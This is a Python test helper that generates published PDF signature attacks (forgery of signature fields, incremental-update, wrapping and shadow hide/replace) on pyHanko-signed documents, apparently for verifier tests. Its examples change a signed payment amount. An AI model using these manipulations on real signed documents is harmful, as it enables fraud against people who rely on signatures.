"""A generator of the published PDF signature attacks (PDF Insecurity: USF, ISA, SWA, shadow attacks),
applied to real documents signed by pyHanko."""

from __future__ import annotations

import re

from asn1crypto import cms
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding

from tests.unit.verification.pdfs import (
    Kit,
    append_update,
    byte_range_text,
    patch_same_length,
    raw_pdf,
    signed_range,
    stream,
    trailer_size,
)

COVER = b"q 1 1 1 rg 60 700 400 40 re f Q"
HIDDEN = b"BT /F1 14 Tf 72 720 Td (Tong so tien: 1.000.000 VND) Tj ET"
SHOWN = b"BT /F1 14 Tf 72 720 Td (Tong so tien: 9.000.000 VND) Tj ET"


def shadow_base() -> bytes:
    """What the attacker prepares for the victim to sign: a visible text, a white cover over a hidden
    text (hide), and an unused alternative page tree (hide-and-replace)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",                                                   # 1
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",                                           # 2
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",                              # 3
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >>"
        b" /Contents [5 0 R 6 0 R] >>",                                                         # 4
        stream(HIDDEN),                                                                         # 5
        stream(COVER),                                                                          # 6
        b"<< /Type /Catalog /Pages 8 0 R >>",                                                   # 7 unused
        b"<< /Type /Pages /Kids [9 0 R] /Count 1 >>",                                           # 8 unused
        b"<< /Type /Page /Parent 8 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >>"
        b" /Contents 10 0 R >>",                                                                # 9 unused
        stream(SHOWN),                                                                          # 10 unused
    ])


def isa_new_content(signed: bytes) -> bytes:
    """Incremental saving attack: a proper update that replaces the page text."""
    return append_update(signed, {5: stream(SHOWN)})


def isa_without_xref(signed: bytes) -> bytes:
    """Objects appended after %%EOF with no cross-reference section (only a repairing viewer uses them)."""
    return append_update(signed, {5: stream(SHOWN)}, with_xref=False)


def isa_unchained_xref(signed: bytes) -> bytes:
    """An update whose trailer has no /Prev: a reader following the chain sees a different document."""
    return append_update(signed, {5: stream(SHOWN)}, chained=False)


def shadow_hide(signed: bytes) -> bytes:
    """Remove the cover: the page now shows the hidden text."""
    return append_update(signed, {6: stream(b"")})


def shadow_replace_font(signed: bytes) -> bytes:
    """Replace the font resource the signed text is drawn with."""
    return append_update(signed, {3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"})


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """Switch the catalog to the prepared, never displayed, page tree."""
    return append_update(signed, {1: b"<< /Type /Catalog /Pages 8 0 R >>"})


def shadow_hide_and_replace_unlisted(signed: bytes) -> bytes:
    """The same, with the new catalog appended outside any xref section."""
    return append_update(signed, {1: b"<< /Type /Catalog /Pages 8 0 R >>"}, with_xref=False)


# -- universal signature forgery ----------------------------------------------------------------
def usf_empty_contents(signed: bytes) -> bytes:
    a, b = signed_range(signed)[1:3]
    return signed[:a + 1] + b"0" * (b - a - 2) + signed[b - 1:]


def usf_no_contents(signed: bytes) -> bytes:
    return patch_same_length(signed, b"/Contents <", b"/Contentz <")


def usf_no_byte_range(signed: bytes) -> bytes:
    return patch_same_length(signed, b"/ByteRange", b"/ByteRangz")


def usf_byte_range(signed: bytes, numbers: tuple[int, int, int, int]) -> bytes:
    old = re.search(re.escape(byte_range_text(signed)) + rb" *", signed).group(0)  # type: ignore[union-attr]
    return patch_same_length(signed, old, b"/ByteRange [%d %d %d %d]" % numbers)


def usf_zero_range(signed: bytes) -> bytes:
    return usf_byte_range(signed, (0, 0, 0, 0))


def usf_out_of_file(signed: bytes) -> bytes:
    a0, a, b, c = signed_range(signed)
    return usf_byte_range(signed, (a0, a, b, c + 100000))


def usf_overlapping(signed: bytes) -> bytes:
    a0, _, b, c = signed_range(signed)
    return usf_byte_range(signed, (a0, b + 10, b, c))


def usf_not_from_start(signed: bytes) -> bytes:
    _, a, b, c = signed_range(signed)
    return usf_byte_range(signed, (10, a - 10, b, c))


def swa_wrapping(signed: bytes) -> bytes:
    """Signature wrapping: move the second signed range to the end and put new objects in the gap."""
    _, a, b, c = signed_range(signed)
    part2 = signed[b:b + c]
    evil = b"\n5 0 obj\n" + stream(SHOWN) + b"\nendobj\n"
    body = signed[:b] + evil
    new_b = len(body)
    wrapped = body + part2
    return usf_byte_range(wrapped, (0, a, new_b, c))


def unknown_subfilter(signed: bytes) -> bytes:
    return patch_same_length(signed, b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachex")


def garbled_cms(signed: bytes) -> bytes:
    a, _ = signed_range(signed)[1:3]
    return signed[:a + 1] + b"3082ffff" + b"0" * 40 + signed[a + 49:]


def not_der_signed_attributes(signed: bytes, kit: Kit, label: str) -> bytes:
    """Re-encode the signed attributes out of DER order and re-sign them with the signer's own key:
    the signature value verifies over the BER bytes, but EN 319 122 demands DER (plugtest HASH_FAILURE)."""
    _, a, b, _ = signed_range(signed)
    hex_value = signed[a + 1:b - 1]
    info = cms.ContentInfo.load(bytes.fromhex(hex_value.decode()))
    signer_info = info["content"]["signer_infos"][0]
    attrs = list(signer_info["signed_attrs"])
    encoded = [attr.dump() for attr in attrs]
    unsorted = sorted(encoded, reverse=True)
    if unsorted == sorted(encoded):  # pragma: no cover - needs at least two attributes
        raise AssertionError("cannot reorder a single attribute")
    content = b"".join(unsorted)
    set_bytes = b"\x31" + _der_length(len(content)) + content
    key = kit.signers[label].signing_key
    from cryptography.hazmat.primitives import serialization

    private = serialization.load_der_private_key(key.dump(), password=None)
    signature = private.sign(set_bytes, padding.PKCS1v15(), hashes.SHA256())  # type: ignore[union-attr, call-arg]
    signer_info["signed_attrs"] = cms.CMSAttributes.load(set_bytes)
    signer_info["signature"] = signature
    new_hex = info.dump(force=False).hex().encode()
    assert len(new_hex) <= len(hex_value)
    return signed[:a + 1] + new_hex.ljust(len(hex_value), b"0") + signed[b - 1:]


def _der_length(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(raw)]) + raw


def appended_garbage(signed: bytes) -> bytes:
    return signed + b"\n% trailing comment is fine\n"


def find_all(pattern: bytes, data: bytes) -> list[int]:
    return [m.start() for m in re.finditer(pattern, data)]


# -- shadow "replace": a form field's look changes, its value does not ---------------------------
def form_base() -> bytes:
    """A page with a text field whose value is drawn by its appearance stream."""
    widget = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /V (1.000.000 VND) /Rect [72 700 372 730] "
              b"/P 4 0 R /F 4 /DA (/Helv 12 Tf 0 g) /AP << /N 6 0 R >> >>")
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",                  # 1
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",                                           # 2
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",                              # 3
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",             # 4
        widget,                                                                                 # 5
        _appearance(b"1.000.000 VND"),                                                          # 6
    ])


def _appearance(text: bytes) -> bytes:
    return stream(b"BT /Helv 12 Tf 2 8 Td (" + text + b") Tj ET",
                  b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /Helv 3 0 R >> >> ")


def _widget(value: bytes, appearance: int) -> bytes:
    return (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /V (" + value + b") /Rect [72 700 372 730] "
            b"/P 4 0 R /F 4 /DA (/Helv 12 Tf 0 g) /AP << /N %d 0 R >> >>" % appearance)


def shadow_replace_appearance(signed: bytes) -> bytes:
    """The field keeps its signed value; a new appearance shows another amount."""
    number = trailer_size(signed)
    return append_update(signed, {5: _widget(b"1.000.000 VND", number), number: _appearance(b"9.000.000 VND")})


def fill_form_field(signed: bytes) -> bytes:
    """Ordinary form filling after an approval signature: a new value, drawn by a new appearance."""
    number = trailer_size(signed)
    return append_update(signed, {5: _widget(b"2.000.000 VND", number), number: _appearance(b"2.000.000 VND")})
